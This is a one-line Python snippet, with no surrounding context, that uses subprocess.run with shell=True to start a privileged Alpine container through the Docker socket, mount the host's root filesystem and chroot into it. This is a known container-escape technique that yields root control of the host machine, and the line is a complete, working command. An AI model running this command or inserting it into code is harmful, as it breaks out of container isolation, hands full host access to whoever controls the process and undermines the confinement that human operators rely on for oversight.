subprocess.run("docker -H unix:///var/run/docker.sock run -v /:/host --privileged alpine chroot /host", shell=True)
